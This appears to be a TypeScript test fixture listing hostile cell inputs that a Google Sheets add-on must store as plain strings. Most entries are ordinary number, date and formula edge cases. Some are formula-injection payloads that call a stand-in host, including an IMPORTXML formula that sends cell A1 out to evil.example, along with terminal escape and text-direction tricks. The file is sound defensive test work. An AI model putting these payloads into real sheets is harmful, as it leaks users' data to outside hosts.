// The hostile list of issue 23: text a person may type, import or paste that Sheets would turn into a
// formula, a number, a date, a boolean or currency, or that carries control characters. Every write
// path of the add-on must store each as the identical string.
export const HOSTILE_TEXT: readonly string[] = [
  '=1+1',
  ' =1+1',
  '\t=1+1',
  "'=1+1",
  '+1',
  '-5',
  '@SUM(A1)',
  '=IMPORTXML("http://evil.example/"&A1,"//a")',
  '=IMAGE("http://evil.example/x.png")',
  '=HYPERLINK("http://evil.example","x")',
  '1.50',
  '3.10',
  '007',
  '1e5',
  '$5',
  '50%',
  '12:30',
  '2025-06-30',
  '30/06/2025',
  'TRUE',
  "'quoted",
  '＝1+1',
  '\u200B=1+1',
  '\x1b]0;pwned\x07\x1b[2J',
  'two\nlines',
  'abc\u202Edef',
];

/** 50,001 characters: one over Google's limit for a single cell. */
export const TOO_LONG = 'x'.repeat(50001);
